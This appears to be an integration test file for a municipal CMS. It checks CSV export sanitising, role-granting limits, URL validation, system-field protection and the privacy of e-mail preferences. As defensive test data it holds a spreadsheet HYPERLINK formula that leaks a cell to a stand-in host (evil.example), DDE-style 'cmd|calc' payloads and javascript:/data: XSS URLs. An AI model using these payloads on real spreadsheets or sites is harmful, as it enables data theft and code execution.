/* Issue 7, findings 6, 7 and 8 (settings address, system fields, members' e-mail switches):
   what a client sees of the data it may write and read. */
import { spawn, type ChildProcess } from 'node:child_process';
import net from 'node:net';
import path from 'node:path';
import Papa from 'papaparse';
import type { Role } from '@sigobito/config';
import { startApp, type TestApp } from '../integration/helpers/app';
import { memberId, page } from '../integration/helpers/agenda';
import { CMS_DIST } from '../../scripts/lib/cms';

const root = path.resolve(__dirname, '../..');
let app: TestApp;

beforeAll(async () => {
  app = await startApp();
});
afterAll(() => app?.stop());

const auth = async (role: Role) => ({ Authorization: `Bearer ${await app.login(role)}` });
const loginAs = (identifier: string, password: string) => app.http.post('/api/auth/local').send({ identifier, password });
const history = async (role: Role, resource: string, recordId: string) =>
  (
    await app.http
      .get(`/api/backoffice/audit-logs?filter=${encodeURIComponent(JSON.stringify({ resource, recordId }))}&sort=["id","ASC"]`)
      .set(await auth(role))
  ).body as Array<{ action: string; changes: Record<string, { before: unknown; after: unknown }> }>;

let serial = 0;
/** A fresh staff member made by the administrator, with a login of its own. */
async function newMember(role: Role = 'staff', by: Role = 'admin') {
  const username = `sec-data-${++serial}`;
  const res = await app.http
    .post('/api/backoffice/members')
    .set(await auth(by))
    .send({ fullName: `Miembro de prueba ${serial}`, username, email: `${username}@example.org`, password: 'una-clave-larga', role });
  if (res.status !== 201) throw new Error(`member: ${res.status} ${JSON.stringify(res.body)}`);
  return { id: res.body.id as string, username, record: res.body as Record<string, unknown> };
}

/** A mayor created from the server console, as on a production install. */
async function consoleMayor() {
  const username = `sec-titular-${++serial}`;
  const { createAdmin } = require(path.join(CMS_DIST, 'src/seed/first-admin'));
  await createAdmin(app.strapi, { username, email: `${username}@example.org`, fullName: `Titular ${serial}`, password: 'una-clave-muy-larga', role: 'mayor' });
  const id = await memberId(await app.client('admin'), username);
  const record = (await (await app.client('admin')).getOne('members', { id })).data as Record<string, unknown>;
  return { id, username, record };
}

describe('CSV exports (finding 6)', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
  let goal: string;
  let site: ChildProcess | undefined;
  let siteUrl: string;

  /** The cells of a CSV file a spreadsheet would run as a formula. */
  const formulas = (csv: string) =>
    Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true })
      .data.flat()
      .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell));

  beforeAll(async () => {
    const followUp = await app.client('follow-up');
    goal = (await followUp.create('goals', { data: { code: 'M-CSV', title: FORMULA, status: 'programmed', isPublic: true, indicatorName: '+cmd|calc', indicatorBaseline: -5 } })).data.id as string;
    await followUp.create('milestones', { data: { goal, order: 1, title: '@SUM(1+1)*cmd|" /C calc"!A0', dueDate: '2026-12-01', weight: 1 } });
    const port = await new Promise<number>((resolve) => {
      const srv = net.createServer().listen(0, '127.0.0.1', () => {
        const { port: p } = srv.address() as net.AddressInfo;
        srv.close(() => resolve(p));
      });
    });
    siteUrl = `http://127.0.0.1:${port}`;
    site = spawn(process.execPath, ['public-site/server.mjs'], { cwd: root, env: { ...process.env, CMS_URL: app.baseUrl, PUBLIC_PORT: String(port), PUBLIC_HOST: '127.0.0.1' }, stdio: 'ignore' });
    for (let i = 0; i < 100; i++) {
      if (await fetch(`${siteUrl}/salud`).then((r) => r.ok, () => false)) break;
      await new Promise((r) => setTimeout(r, 200)); // polling for the site to listen, not a fixed wait
    }
  });
  afterAll(() => site?.kill('SIGTERM'));

  const expectNeutralized = (csv: string, text: string) => {
    expect(csv).toContain(`'${text.replace(/"/g, '""')}`);
    expect(formulas(csv)).toEqual([]);
  };

  it("hands the spreadsheet no formula in the CMS's open data, goals and milestones", async () => {
    const goals = await app.http.get('/api/public/open-data/goals.csv');
    expect(goals.status).toBe(200);
    expectNeutralized(goals.text, FORMULA);
    expectNeutralized(goals.text, '+cmd|calc');
    // A negative number is a number, not a formula.
    expect(goals.text).toMatch(/,-5,/);
    expectNeutralized((await app.http.get('/api/public/open-data/milestones.csv')).text, '@SUM(1+1)*cmd|" /C calc"!A0');
  });

  it("hands the spreadsheet no formula in the site's /datos-abiertos files", async () => {
    const res = await fetch(`${siteUrl}/datos-abiertos/goals.csv`);
    expect(res.status).toBe(200);
    expectNeutralized(await res.text(), FORMULA);
  });
});

describe('who may grant the mayor and agenda roles (finding 7)', () => {
  const MAYOR_ONLY = /Solo el Titular/;

  it("refuses an administrator creating a mayor or an agenda officer, in the back office or through Strapi's own user routes, and creates nothing", async () => {
    const headers = await auth('admin');
    for (const role of ['mayor', 'agenda'] as const) {
      const res = await app.http
        .post('/api/backoffice/members')
        .set(headers)
        .send({ fullName: 'Titular falso', username: `falso-${role}`, email: `falso-${role}@example.org`, password: 'una-clave-larga', role });
      expect([role, res.status]).toEqual([role, 403]);
      expect(res.body.message).toMatch(MAYOR_ONLY);
      expect((await loginAs(`falso-${role}`, 'una-clave-larga')).status).toBe(400);
    }
    const staff = await newMember();
    const user = (await app.strapi.db.query('plugin::users-permissions.user').findOne({ where: { username: staff.username } })) as { id: number };
    const mayorRole = (await app.strapi.db.query('plugin::users-permissions.role').findOne({ where: { type: 'mayor' } })) as { id: number };
    // Strapi's user routes are closed at the edge (404) and, behind it, refused by the roles' permissions.
    const REFUSED = [401, 403, 404];
    expect(REFUSED).toContain((await app.http.put(`/api/users/${user.id}`).set(headers).send({ role: mayorRole.id })).status);
    const post = await app.http.post('/api/users').set(headers).send({ username: 'por-strapi', email: 'por-strapi@example.org', password: 'una-clave-larga', role: mayorRole.id, confirmed: true });
    expect(REFUSED).toContain(post.status);
    const register = await app.http.post('/api/auth/local/register').send({ username: 'autoregistro', email: 'auto@example.org', password: 'una-clave-larga', role: mayorRole.id });
    expect(register.status).toBeGreaterThanOrEqual(400);
    expect((await (await app.client('admin')).getOne('members', { id: staff.id })).data.role).toBe('staff');
    for (const username of ['por-strapi', 'autoregistro']) expect((await loginAs(username, 'una-clave-larga')).status).toBe(400);
  });

  it('refuses an administrator promoting a member to mayor or agenda, and demoting one', async () => {
    const staff = await newMember();
    for (const role of ['mayor', 'agenda']) {
      const res = await app.http.put(`/api/backoffice/members/${staff.id}`).set(await auth('admin')).send({ ...staff.record, role });
      expect([role, res.status, res.body.message]).toEqual([role, 403, expect.stringMatching(MAYOR_ONLY)]);
    }
    const mayor = await consoleMayor();
    const demote = await app.http.put(`/api/backoffice/members/${mayor.id}`).set(await auth('admin')).send({ ...mayor.record, role: 'staff' });
    expect(demote.status).toBe(403);
    const admin = await app.client('admin');
    expect((await admin.getOne('members', { id: staff.id })).data.role).toBe('staff');
    expect((await admin.getOne('members', { id: mayor.id })).data.role).toBe('mayor');
  });

  it("refuses an administrator changing a mayor's password, e-mail or username, or deactivating them, but lets them edit the profile", async () => {
    const mayor = await consoleMayor();
    const adminAuth = await auth('admin');
    for (const change of [{ password: 'otra-clave-larga' }, { email: 'mio@example.org' }, { username: 'mio' }]) {
      const res = await app.http.put(`/api/backoffice/members/${mayor.id}`).set(adminAuth).send({ ...mayor.record, ...change });
      expect([change, res.status]).toEqual([change, 403]);
    }
    expect((await loginAs(mayor.username, 'una-clave-muy-larga')).status).toBe(200);
    const receiver = await memberId(await app.client('admin'), 'staff');
    const deactivate = await app.http.post(`/api/backoffice/members/${mayor.id}/deactivate`).set(adminAuth).send({ handoverTo: receiver });
    expect(deactivate.status).toBe(403);
    expect(deactivate.body.message).toMatch(MAYOR_ONLY);
    // The edit form sends the whole record back: the same role, e-mail and username are no change.
    const profile = await app.http.put(`/api/backoffice/members/${mayor.id}`).set(adminAuth).send({ ...mayor.record, phone: '+507 6000-0000' });
    expect(profile.status).toBe(200);
    expect(profile.body).toMatchObject({ role: 'mayor', phone: '+507 6000-0000' });
  });

  it("lets the mayor grant and remove the agenda role, and shows each change in the member's history, before and after", async () => {
    const staff = await newMember();
    const mayorAuth = await auth('mayor');
    const up = await app.http.put(`/api/backoffice/members/${staff.id}`).set(mayorAuth).send({ ...staff.record, role: 'agenda' });
    expect(up.status).toBe(200);
    const session = (await loginAs(staff.username, 'una-clave-larga')).body.jwt;
    expect((await app.http.get('/api/backoffice/me').set('Authorization', `Bearer ${session}`)).body.role).toBe('agenda');
    const down = await app.http.put(`/api/backoffice/members/${staff.id}`).set(mayorAuth).send({ ...up.body, role: 'press' });
    expect(down.status).toBe(200);
    const roleChanges = (await history('admin', 'members', staff.id)).filter((e) => e.changes.role).map((e) => e.changes.role);
    expect(roleChanges).toEqual([
      { before: null, after: 'staff' },
      { before: 'staff', after: 'agenda' },
      { before: 'agenda', after: 'press' },
    ]);
    const created = await newMember('agenda', 'mayor');
    expect((await history('mayor', 'members', created.id))[0]).toMatchObject({ action: 'create', changes: { role: { before: null, after: 'agenda' } } });
  });

  it('creates the first mayor of an install from the server console', async () => {
    const { createAdmin } = require(path.join(CMS_DIST, 'src/seed/first-admin'));
    await createAdmin(app.strapi, { username: 'titular', email: 'titular@municipio.example', fullName: 'Titular Consola', password: 'una-clave-muy-larga', role: 'mayor' });
    const login = await loginAs('titular', 'una-clave-muy-larga');
    expect((await app.http.get('/api/backoffice/me').set('Authorization', `Bearer ${login.body.jwt}`)).body).toMatchObject({ role: 'mayor', member: { fullName: 'Titular Consola' } });
    await expect(createAdmin(app.strapi, { username: 'rey', email: 'rey@municipio.example', fullName: 'Rey', password: 'una-clave-muy-larga', role: 'king' })).rejects.toThrow(/role/);
  });
});

describe("the municipality's web address (finding 8)", () => {
  it('takes only http(s) addresses, naming the field otherwise', async () => {
    const headers = await auth('admin');
    for (const website of ['javascript:alert(1)', 'JaVaScRiPt:alert(document.cookie)', 'data:text/html,<script>alert(1)</script>', ' javascript:alert(1)']) {
      const res = await app.http.put('/api/backoffice/settings/current').set(headers).send({ website });
      expect([website, res.status, res.body.errors?.website]).toEqual([website, 400, 'Debe ser una dirección web que empiece por http:// o https://']);
    }
    const ok = await app.http.put('/api/backoffice/settings/current').set(headers).send({ website: 'https://www.municipio.gob.pa' });
    expect(ok.status).toBe(200);
    expect(ok.body.website).toBe('https://www.municipio.gob.pa');
  });
});

describe('system fields (finding 8)', () => {
  const LONG_AGO = '2000-01-01T00:00:00.000Z';

  it('are never written by a client: a creation time or id sent with a record is not stored', async () => {
    const admin = await app.client('admin');
    const created = await app.http
      .post('/api/backoffice/themes')
      .set(await auth('admin'))
      .send({ code: 'T-SYS', name: 'Sistema', createdAt: LONG_AGO, updatedAt: LONG_AGO, publishedAt: LONG_AGO, documentId: 'mine', id: 'mine', locale: 'fr' });
    expect(created.status).toBe(201);
    expect(created.body.id).not.toBe('mine');
    expect(created.body.createdAt).not.toBe(LONG_AGO);
    expect(created.body.updatedAt).not.toBe(LONG_AGO);
    // What react-admin's edit form does: the whole record back, with other timestamps.
    const updated = await app.http
      .put(`/api/backoffice/themes/${created.body.id}`)
      .set(await auth('admin'))
      .send({ ...created.body, name: 'Sistema 2', createdAt: LONG_AGO, updatedAt: LONG_AGO });
    expect(updated.status).toBe(200);
    const stored = (await admin.getOne('themes', { id: created.body.id })).data;
    expect(stored).toMatchObject({ name: 'Sistema 2', createdAt: created.body.createdAt });
    expect(stored.updatedAt).not.toBe(LONG_AGO);
  });
});

describe("members' e-mail switches (finding 8)", () => {
  const hasSwitches = (record: Record<string, unknown>) => Object.hasOwn(record, 'notificationPreferences');

  it('are read by the member themself and the administrator, and by no one else, on every read', async () => {
    const staff = await app.client('staff');
    const me = (await app.http.get('/api/backoffice/me').set(await auth('staff'))).body.member.id as string;
    const list = await staff.getList('members', page);
    expect(list.data.length).toBeGreaterThan(2);
    for (const m of list.data) expect([m.username, hasSwitches(m)]).toEqual([m.username, m.id === me]);
    const colleague = list.data.find((m) => m.id !== me)!.id as string;
    expect(hasSwitches((await staff.getOne('members', { id: colleague })).data)).toBe(false);
    expect(hasSwitches((await staff.getOne('members', { id: me })).data)).toBe(true);
    expect((await staff.getMany('members', { ids: [colleague, me] })).data.map(hasSwitches).sort()).toEqual([false, true]);
    for (const role of ['mayor', 'agenda', 'press'] as const) {
      const other = await (await app.client(role)).getOne('members', { id: me });
      expect([role, hasSwitches(other.data)]).toEqual([role, false]);
    }
    const admin = await app.client('admin');
    expect((await admin.getList('members', page)).data.every(hasSwitches)).toBe(true);
    // Nor found by them: no filter nor sort on them.
    const headers = await auth('staff');
    const filter = await app.http.get(`/api/backoffice/members?filter=${encodeURIComponent('{"notificationPreferences":null}')}`).set(headers);
    expect([filter.status, Object.keys(filter.body.errors ?? {})]).toEqual([400, ['filter.notificationPreferences']]);
    const sort = await app.http.get(`/api/backoffice/members?sort=${encodeURIComponent('["notificationPreferences","ASC"]')}`).set(headers);
    expect(sort.status).toBe(400);
  });

  it("are not in a colleague's history, nor in the whole log the mayor reads", async () => {
    const member = await newMember();
    const session = (await loginAs(member.username, 'una-clave-larga')).body.jwt;
    await app.http.put('/api/backoffice/me/notifications').set('Authorization', `Bearer ${session}`).send({ weeklyDigest: false }).expect(200);
    const changed = (entries: Awaited<ReturnType<typeof history>>) => entries.some((e) => JSON.stringify(e.changes).includes('weeklyDigest'));
    expect(changed(await history('admin', 'members', member.id))).toBe(true);
    const own = await app.http
      .get(`/api/backoffice/audit-logs?filter=${encodeURIComponent(JSON.stringify({ resource: 'members', recordId: member.id }))}`)
      .set('Authorization', `Bearer ${session}`);
    expect(changed(own.body)).toBe(true);
    for (const role of ['staff', 'press', 'mayor'] as const) expect([role, changed(await history(role, 'members', member.id))]).toEqual([role, false]);
    const wholeLog = await app.http.get('/api/backoffice/audit-logs?range=[0,499]&sort=["id","DESC"]').set(await auth('mayor'));
    expect(JSON.stringify(wholeLog.body)).not.toContain('weeklyDigest');
  });

  it("are not in the answer the mayor gets on deactivating a member", async () => {
    const leaving = await newMember();
    const receiver = await memberId(await app.client('admin'), 'staff');
    const res = await app.http.post(`/api/backoffice/members/${leaving.id}/deactivate`).set(await auth('mayor')).send({ handoverTo: receiver });
    expect(res.status).toBe(200);
    expect(hasSwitches(res.body.member)).toBe(false);
  });
});
